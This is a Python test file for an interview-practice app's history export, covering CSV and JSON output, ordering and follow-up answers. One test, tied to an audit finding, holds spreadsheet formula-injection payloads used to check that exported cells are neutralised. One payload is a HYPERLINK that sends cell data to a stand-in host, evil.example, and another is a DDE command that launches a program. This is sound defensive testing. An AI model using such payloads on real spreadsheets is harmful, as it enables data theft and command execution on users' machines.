"""History export: every attempt and review, JSON or CSV, in a stable order."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from interview_prep.practice.attempts import Attempt, QuestionRef
from interview_prep.practice.history import CSV_COLUMNS, export_history
from interview_prep.practice.scheduling import Rating, ReviewLogEntry, make_scheduler, schedule

AT = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
QUESTION = QuestionRef("ml", "overfitting")


@pytest.fixture
def history():
    attempt = Attempt(
        id="a1",
        user_id="local",
        question=QUESTION,
        category="Fundamentals",
        answer='It "memorises", noise\nand more',
        started_at=AT - timedelta(seconds=42),
        submitted_at=AT,
        grade={"score": 3.5, "label": "acceptable"},
    )
    ungraded = Attempt(
        id="a0", user_id="local", question=QUESTION, category="Fundamentals", answer="",
        submitted_at=AT - timedelta(days=1),
    )  # fmt: skip
    _, review = schedule(
        None,
        "easy",
        AT,
        question=QUESTION,
        scheduler=make_scheduler(fuzz=False),
        suggested=Rating.GOOD,
        attempt_id="a1",
        review_id="r1",
    )
    return [attempt, ungraded], [review]


def test_csv_has_fixed_columns_and_time_order(history):
    text = export_history(*history, "csv")
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    rows = list(reader)
    assert [(r["record"], r["id"]) for r in rows] == [
        ("attempt", "a0"),
        ("attempt", "a1"),
        ("review", "r1"),
    ]
    attempt, review = rows[1], rows[2]
    assert attempt["answer"] == 'It "memorises", noise\nand more'
    assert (attempt["score"], attempt["label"], attempt["time_taken_s"]) == (
        "3.5",
        "acceptable",
        "42.0",
    )
    assert rows[0]["score"] == ""
    assert (review["rating"], review["suggested_rating"], review["phase_before"]) == (
        "easy",
        "good",
        "new",
    )
    assert review["due_after"] == "2026-03-10T09:00:00+00:00" and review["attempt_id"] == "a1"


def test_json_round_trips(history):
    text = export_history(*history, "JSON", exported_at=AT)
    document = json.loads(text)
    assert list(document) == ["format", "format_version", "exported_at", "attempts", "reviews"]
    assert document["exported_at"] == "2026-03-02T09:00:00+00:00"
    assert [Attempt.from_dict(a) for a in document["attempts"]] == history[0][::-1]
    assert [ReviewLogEntry.from_dict(r) for r in document["reviews"]] == history[1]


def test_empty_and_unknown():
    assert export_history([], [], "csv") == ",".join(CSV_COLUMNS) + "\n"
    with pytest.raises(ValueError, match="use json or csv"):
        export_history([], [], "xml")


@pytest.mark.parametrize(
    "answer",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
    ],
)
def test_csv_cells_never_start_a_formula(answer):
    # Finding 7: CSV exports kept live formulas.
    at = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    attempt = Attempt(
        id="a1",
        user_id="local",
        question=QuestionRef("bank", "q"),
        category="=cmd()",
        answer=answer,
        submitted_at=at,
    )
    [row] = csv.DictReader(io.StringIO(export_history([attempt], [], "csv")))
    assert row["answer"] == "'" + answer
    assert row["category"] == "'=cmd()"
    assert not [cell for cell in row.values() if cell and cell[0] in "=+-@\t\r"]


def test_the_export_holds_the_answers_to_follow_ups_naming_them() -> None:
    from interview_prep.practice.service import history_attempts
    from interview_prep.practice.store import InMemoryPracticeStore

    store = InMemoryPracticeStore()
    at = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    ref = QuestionRef("ml", "overfitting")
    main = Attempt(id="a", user_id="u", question=ref, category="F", answer="x", submitted_at=at)
    follow_up = Attempt(
        id="b",
        user_id="u",
        question=ref,
        category="F",
        answer="y",
        submitted_at=at.replace(minute=1),
        follow_up="overfitting-fu2",
    )
    store.save_attempt_before_grading(follow_up)
    store.save_attempt_before_grading(main)
    attempts = history_attempts(store, "u")
    assert [a.id for a in attempts] == ["a", "b"]
    rows = list(csv.DictReader(io.StringIO(export_history(attempts, [], "csv"))))
    assert [(r["question"], r["follow_up"]) for r in rows] == [
        ("overfitting", ""),
        ("overfitting", "overfitting-fu2"),
    ]
    document = json.loads(export_history(attempts, [], "json"))
    assert document["attempts"][1]["follow_up"] == "overfitting-fu2"
